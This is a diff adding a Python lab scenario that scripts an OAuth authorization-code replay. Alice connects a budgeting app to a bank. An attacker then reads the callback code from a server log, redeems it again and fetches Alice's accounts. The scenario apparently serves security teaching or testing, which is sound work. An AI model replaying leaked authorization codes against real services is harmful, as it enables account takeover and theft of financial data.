@@ -1,0 +1,25 @@
+"""Alice connects; then somebody reads the log and redeems the same code again."""
+
+from labs.stage import Stage
+from labs.steps import step
+
+
+@step("Alice", by_hand="{budget}/connect")
+def alice_connects(stage: Stage) -> None:
+    """Connect Budget to the bank: sign in as alice, and allow."""
+    stage.alice.go(f"{stage.here.budget}/connect").agree()
+
+
+@step("attacker", asks="the address of the callback with ?code= in it: the wire shows it")
+def redeems_the_code_again(stage: Stage) -> None:
+    """Read the address of the callback in the server's log, and redeem its code a second time."""
+    told = stage.leak("log", stage.given or stage.alice.visited("/callback"))
+    form = {"client_id": "budget", "redirect_uri": f"{stage.here.budget}/callback"}
+    stage.kept["token"] = stage.attacker.redeem(told["code"], **form)
+
+
+@step("attacker")
+def reads_the_accounts(stage: Stage) -> None:
+    """Ask the bank for Alice's accounts with what that bought."""
+    if stage.kept["token"]:
+        stage.attacker.bank("GET", "/accounts", stage.kept["token"])
